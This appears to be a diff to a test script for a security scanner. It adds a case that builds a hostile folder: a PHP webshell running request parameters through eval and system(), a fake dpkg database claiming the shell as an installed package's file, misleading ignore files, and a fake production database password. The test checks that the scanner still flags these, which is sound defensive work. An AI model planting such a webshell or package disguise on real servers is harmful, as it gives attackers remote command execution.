@@ -131,6 +131,29 @@ jq -e 'all(.content[]; .status == "ignored" and .status_reason == "made up")' ou
 if WEIR_FINGERPRINT_KEY=$(head -c 32 /dev/zero | xxd -p -c 64) "$WEIR" secrets dir:app --baseline known.json 2>err; then fail "a baseline of another key was taken"; fi
 grep -q 'another key' err || fail "unclear: $(cat err)"
 
+# --- a folder whose maker knows Weir -----------------------------------------------------------------------------------
+mkdir -p hostile/srv hostile/var/lib/dpkg/info hostile/etc
+shell='<?php if(isset($_REQUEST["cmd"])){ @eval(base64_decode($_REQUEST["cmd"])); system($_REQUEST["cmd"]); } ?>'
+echo "$shell" >hostile/srv/x.php
+echo 'ID=debian' >hostile/etc/os-release
+printf 'Package: evil\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n' >hostile/var/lib/dpkg/status
+(cd hostile && md5sum srv/x.php >var/lib/dpkg/info/evil.md5sums && echo /srv/x.php >var/lib/dpkg/info/evil.list)
+echo 'this is no rule' >hostile/.weirignore
+printf 'rule=* path=**\nkey=%064d\n' 0 >hostile/.gitleaksignore
+tail=1pZsLw77Qx && never_shown+=("$tail")
+printf 'DATABASE_URL=mysql://root:Hq82nVbK@%s@db1.prod.internal/x\n' "$tail" >hostile/.env
+"$WEIR" scan dir:hostile --scanners secrets,malware -o json=out.json 2>/dev/null || fail "a file in the folder ended the scan"
+reported "a webshell that a planted package database calls its own" '.kind == "malware" and .places[0].path == "srv/x.php" and .status == "open"'
+reported "a connection string whose password holds an @" '.kind == "secret" and .places[0].path == ".env"'
+mkdir piped && mkfifo piped/.git
+if timeout 20 "$WEIR" secrets git:piped 2>err; then fail "a pipe is no repository"; fi
+grep -q 'no git repository' err || fail "a pipe in place of .git: $(cat err)"
+mkdir pointed && echo "gitdir: $scratch/repository/.git" >pointed/.git
+if "$WEIR" secrets git:pointed 2>err; then fail "a folder led to a repository elsewhere"; fi
+git -C repository worktree add -q ../linked HEAD
+"$WEIR" secrets git:linked -o json=out.json
+reported "a linked work tree" '.places[0].origin == "commit"'
+
 # --- rules ------------------------------------------------------------------------------------------------------------
 cat >mine.toml <<'T'
 [[rules]]
